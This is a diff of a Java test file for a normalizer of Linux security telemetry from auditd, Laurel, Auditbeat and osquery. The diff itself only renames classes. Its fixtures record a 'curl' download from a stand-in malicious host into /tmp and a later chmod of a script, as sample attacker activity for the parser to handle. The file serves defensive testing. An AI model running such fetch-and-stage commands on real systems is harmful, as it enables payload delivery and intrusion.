@@ -6,8 +6,8 @@ import io.clicktrail.event.Event;
 import io.clicktrail.event.EventKind;
 import io.clicktrail.event.MarkAction;
 import io.clicktrail.event.Platform;
-import io.clicktrail.normalizer.Facts;
-import io.clicktrail.normalizer.Reader;
+import io.clicktrail.normalizer.parse.EventFacts;
+import io.clicktrail.normalizer.parse.TestNormalizer;
 import org.junit.jupiter.api.Test;
 
 /** The audit system's events as other programs put them together, and osquery's rows. */
@@ -33,11 +33,11 @@ public class LinuxJsonTest {
             "decorations":{"platform":"ubuntu"},"columns":{"auid":"1000","cmdline":"curl -o /tmp/a https://files.bad.example/a","cwd":"\\"/home/ada\\"","eid":"77","parent":"2176","path":"/usr/bin/curl",\
             "pid":"2221","syscall":"execve","time":"1772445605","uid":"1000"},"action":"added"}""";
 
-    private final Reader reader = new Reader();
+    private final TestNormalizer reader = new TestNormalizer();
 
     @Test
     void readsAProcessStartOfLaurel() {
-        assertThat(Facts.of(reader.event(LAUREL))).isEqualTo("""
+        assertThat(EventFacts.of(reader.event(LAUREL))).isEqualTo("""
                 {"@timestamp":"2026-03-02T10:00:05.701Z","event":{"action":"process_start","code":"execve","dataset":"linux.auditd"},"host":{"name":"lin-7.corp.example","hostname":"lin-7.corp.example","domain":"corp.example","os":{"type":"linux"}},"user":{"name":"ada","id":"1000"},"process":{"entity_id":"lin-7.corp.example:8:2221","pid":2221,"start":"2026-03-02T10:00:05.701Z","executable":"/usr/bin/curl","name":"curl","command_line":"curl -o \\"/tmp/my report.sh\\" https://files.bad.example/a","working_directory":"/home/ada","parent":{"entity_id":"lin-7.corp.example:8:2176","pid":2176,"executable":"/usr/bin/bash"}}}""");
     }
 
@@ -90,7 +90,7 @@ public class LinuxJsonTest {
                 "SYSCALL":["arch=c00000b7 syscall=53 success=yes exit=0 a0=ffffffffffffff9c a1=aaaa a2=1ed a3=0 items=1 ppid=2176 pid=2222 auid=4294967295 uid=0 ses=4294967295 comm=\\"chmod\\" exe=\\"/usr/bin/chmod\\" key=\\"mode\\""],\
                 "CWD":["cwd=\\"/tmp\\""],"PATH":["item=0 name=\\"./a.sh\\" inode=80 nametype=NORMAL"],"PROCTITLE":["proctitle=63686D6F64"]}}""";
 
-        assertThat(Facts.of(reader.event(items))).isEqualTo(Facts.of(reader.event(AuditFixtures.CHMOD)));
+        assertThat(EventFacts.of(reader.event(items))).isEqualTo(EventFacts.of(reader.event(AuditFixtures.CHMOD)));
         assertThat(reader.event(items).getEventId())
                 .isEqualTo(reader.event(AuditFixtures.CHMOD).getEventId());
         assertThat(reader.ignored(items.replace("\"SYSCALL\":", "\"USER_ACCT\":"))
@@ -100,7 +100,7 @@ public class LinuxJsonTest {
 
     @Test
     void readsAuditbeatsProcessStart() {
-        assertThat(Facts.of(reader.event(AUDITBEAT))).isEqualTo("""
+        assertThat(EventFacts.of(reader.event(AUDITBEAT))).isEqualTo("""
                 {"@timestamp":"2026-03-02T10:00:05.701Z","event":{"action":"process_start","code":"execve","dataset":"auditbeat.auditd"},"host":{"name":"lin-7.corp.example","hostname":"lin-7.corp.example","domain":"corp.example","os":{"type":"linux"}},"user":{"name":"ada","id":"1000"},"process":{"entity_id":"lin-7.corp.example:8:2221","pid":2221,"start":"2026-03-02T10:00:05.701Z","executable":"/usr/bin/curl","name":"curl","command_line":"curl -o \\"/tmp/my report.sh\\" https://files.bad.example/a","working_directory":"/home/ada","parent":{"entity_id":"lin-7.corp.example:8:2176","pid":2176}}}""");
     }
 
@@ -133,7 +133,7 @@ public class LinuxJsonTest {
 
     @Test
     void readsAProcessOfOsquery() {
-        assertThat(Facts.of(reader.event(OSQUERY))).isEqualTo("""
+        assertThat(EventFacts.of(reader.event(OSQUERY))).isEqualTo("""
                 {"@timestamp":"2026-03-02T10:00:05Z","event":{"action":"process_start","code":"process","dataset":"osquery.result"},"host":{"name":"lin-7.corp.example","hostname":"lin-7.corp.example","domain":"corp.example","os":{"type":"linux"}},"user":{"id":"1000"},"process":{"entity_id":"lin-7.corp.example::2221","pid":2221,"start":"2026-03-02T10:00:05Z","executable":"/usr/bin/curl","name":"curl","command_line":"curl -o /tmp/a https://files.bad.example/a","working_directory":"/home/ada","parent":{"entity_id":"lin-7.corp.example::2176","pid":2176}}}""");
     }
 
